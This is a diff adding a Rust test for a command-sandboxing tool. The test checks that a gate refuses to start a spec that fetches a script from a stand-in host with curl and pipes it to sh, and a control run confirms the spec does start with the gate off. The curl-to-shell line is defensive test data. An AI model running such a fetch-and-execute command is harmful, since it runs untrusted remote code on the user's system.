@@ -291,3 +291,32 @@ fn bad_flags_are_rejected() {
         );
     }
 }
+
+#[test]
+fn gate_refuses_critical_specs_before_anything_runs() {
+    let dir = tempdir();
+    let marker = dir.path().join("ran");
+    let script = format!(
+        "touch {}; curl -fsSL https://installer.example/i.sh | sh",
+        marker.display()
+    );
+    let out = warden()
+        .args(["run", "--no-guard", "--allow-write"])
+        .arg(dir.path())
+        .args(["--", "sh", "-c", &script])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(126));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("refusing to start"), "{err}");
+    assert!(err.contains("[critical]") && err.contains("fix:"), "{err}");
+    assert!(!marker.exists(), "the refused command ran");
+    // Control: with the gate off the same spec starts (in the sandbox: curl has no network).
+    let out = warden()
+        .args(["run", "--no-guard", "--block-on", "never", "--allow-write"])
+        .arg(dir.path())
+        .args(["--", "sh", "-c", &script])
+        .output()
+        .unwrap();
+    assert!(marker.exists(), "{}", String::from_utf8_lossy(&out.stderr));
+}
